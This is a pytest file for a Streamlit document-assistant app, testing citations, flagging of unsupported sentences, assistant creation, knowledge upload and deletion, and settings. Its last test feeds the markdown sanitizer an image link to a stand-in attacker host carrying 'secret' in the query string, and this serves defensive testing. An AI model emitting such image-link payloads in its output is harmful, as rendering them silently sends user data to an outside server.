"""The Streamlit app through streamlit.testing, on the real model, embedder and catalog."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

MAIN = str(Path(__file__).parent.parent / "app" / "main.py")


@pytest.fixture(autouse=True)
def fresh_services() -> None:
    """The app shares one set of services per process; each test has its own workspace."""
    import streamlit as st

    st.cache_resource.clear()


def _app(page: str | None = None) -> AppTest:
    at = AppTest.from_file(MAIN, default_timeout=300)
    at.run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


@pytest.mark.slow
def test_chat_starter_answers_with_citations_and_is_stored(home: Path) -> None:
    at = _app()
    assert at.title[0].value.endswith("archivist-guide")
    next(b for b in at.button if "GPU" in b.label).click().run()
    assert not at.exception, at.exception
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    labels = [e.label for e in at.expander if e.label.startswith("[")]
    assert labels and labels[0].startswith("[1] ") and any("models.md" in x for x in labels)
    assert len(at.feedback) == 1  # thumbs on the stored answer
    assert any(e.label == "What the documents say" for e in at.expander)  # quotes, highlighted in place
    shown = " ".join(m.value for m in at.markdown)
    assert ":orange-background[**" in shown
    titles = at.sidebar.radio[0].options
    assert any("GPU" in t for t in titles)  # the conversation is listed


def test_chat_marks_sentences_the_documents_do_not_support(home: Path) -> None:
    import json

    from app.services import Services

    svc = Services.create(home)
    conv = svc.conversations.create("archivist-guide", "lens question")
    details = {
        "mode": "generate",
        "quotes": [
            {
                "text": "The lens is cleaned every Tuesday.",
                "document": "guide.pdf",
                "page": 2,
                "start": 10,
                "end": 44,
                "score": 0.9,
                "passage": 1,
                "context": "Schedule. The lens is cleaned every Tuesday. Bring gloves.",
                "context_start": 0,
            }
        ],
        "sentences": [
            {
                "text": "The lens is cleaned on Tuesdays [1].",
                "supported": True,
                "source": {"passage": 1},
                "claim": True,
            },
            {"text": "It was built in 1897.", "supported": False, "source": None, "missing": ["1897"], "claim": True},
        ],
        "grounding": {"supported_share": 0.5, "unsupported": 1, "action": "kept", "seconds": 0.01},
        "timings": {"quotes": 0.25, "grounding": 0.02},
    }
    svc.conversations.add_turn(
        conv.id,
        {"text": "When is the lens cleaned?"},
        {"text": "The lens is cleaned on Tuesdays [1]. It was built in 1897.", "details_json": json.dumps(details)},
    )
    at = _app()
    at.sidebar.radio[0].set_value(conv.id).run()
    assert not at.exception, at.exception
    (warning,) = at.warning
    assert "Not supported by the documents (1 of 2 sentences)" in warning.value
    assert "It was built in 1897" in warning.value and "1897" in warning.value
    answer = next(m.value for m in at.markdown if "Tuesdays" in m.value)
    assert "1897. \u26a0" in answer  # the sentence is marked in place
    assert any("grounding check 20 ms" in c.value and "50% of sentences supported" in c.value for c in at.caption)
    quotes = next(e for e in at.expander if e.label == "What the documents say")
    assert any(":orange-background[**The lens is cleaned every Tuesday" in m.value for m in quotes.markdown)


@pytest.mark.slow
def test_builder_creates_an_assistant_and_shows_field_errors(home: Path) -> None:
    at = _app("ui/assistants.py")
    assert any(c.value.startswith("**archivist-guide**") for c in at.markdown)  # gallery
    at.text_input(key="f-name").set_value("bad name!")
    at.button(key="FormSubmitter:builder-Save assistant").click().run()
    assert any(e.value.startswith("name:") for e in at.error), [e.value for e in at.error]
    assert not (home / "assistants").exists() or not list((home / "assistants").glob("*.yaml"))
    at.text_input(key="f-name").set_value("field-notes")
    at.multiselect(key="f-collections").set_value(["archivist-docs"])
    at.button(key="FormSubmitter:builder-Save assistant").click().run()
    assert not at.exception, at.exception
    saved = home / "assistants" / "field-notes.yaml"
    assert saved.exists() and "archivist-docs" in saved.read_text()


@pytest.mark.slow
def test_knowledge_upload_lists_searches_and_deletes(home: Path) -> None:
    at = _app("ui/knowledge.py")
    at.selectbox(key="kn-collection").set_value("(new collection)").run()
    at.text_input(key="kn-new").set_value("notes").run()
    at.file_uploader(key="kn-files").upload("owls.txt", b"Owls hunt at night and sleep by day.", "text/plain").run()
    at.button(key="kn-ingest").click().run()
    assert not at.exception, at.exception
    assert "owls.txt" in at.dataframe[0].value["document"].tolist()
    at.text_input(key="kn-query").set_value("when do owls hunt").run()
    assert any(e.label.startswith("[1] owls.txt") for e in at.expander)
    at.selectbox(key="kn-victim").set_value("owls.txt")
    at.checkbox(key="kn-sure").check().run()
    at.button(key="kn-delete").click().run()
    assert not at.exception, at.exception
    assert not at.dataframe


@pytest.mark.slow
def test_settings_shows_workspace_and_models(home: Path) -> None:
    at = _app("ui/settings.py")
    text = " ".join(m.value for m in at.markdown)
    assert str(home) in text and "bundled:smollm2-135m" in text


def test_model_text_cannot_fetch_images_or_render_links() -> None:
    from app.ui.common import safe_markdown

    out = safe_markdown("Done ![pixel](http://evil.example/?q=secret) see [docs](http://a.example/x)")
    assert "![" not in out and "](" not in out
    assert "[image: pixel]" in out and "docs (http://a.example/x)" in out
